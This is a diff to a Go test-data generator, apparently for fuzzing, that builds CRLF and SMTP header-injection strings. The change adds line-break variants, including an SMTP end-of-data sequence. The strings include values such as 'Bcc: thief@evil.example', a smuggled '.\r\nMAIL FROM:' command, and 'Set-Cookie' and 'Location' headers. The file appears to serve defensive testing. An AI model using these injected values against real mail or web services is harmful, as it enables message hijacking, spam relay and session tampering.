@@ -17,7 +17,7 @@ func Cells() []string {
 // Lines returns more than 300 different texts that try to end the field of a mail or of an
 // answer they are in and to begin another.
 func Lines() []string {
-	breaks := []string{"\r\n", "\n", "\r", "\n\n", "\r\n\r\n", "\u2028", "\u2029", "\u0085", "\x00", "\x0b", "\x0c", "\x1b", "\x7f", "\r\n\t", "%0d%0a", "=0D=0A",
+	breaks := []string{"\r\n", "\n", "\r", "\n\n", "\r\n\r\n", "\u2028", "\u2029", "\u0085", "\x00", "\x0b", "\x0c", "\x1b", "\x7f", "\r\n\t", "\r\n.\r\n", "\n\r", "\x1c", "\x1e", "%0d%0a", "=0D=0A",
 		"\\r\\n", "嘊嘍"}
 	fields := []string{"Bcc: thief@evil.example", "To: thief@evil.example", "Subject: other", " folded: no", "Content-Type: text/html", ".",
 		".\r\nMAIL FROM:<thief@evil.example>", "--boundary", "Set-Cookie: recoup_session=x", "Location: //evil.example"}
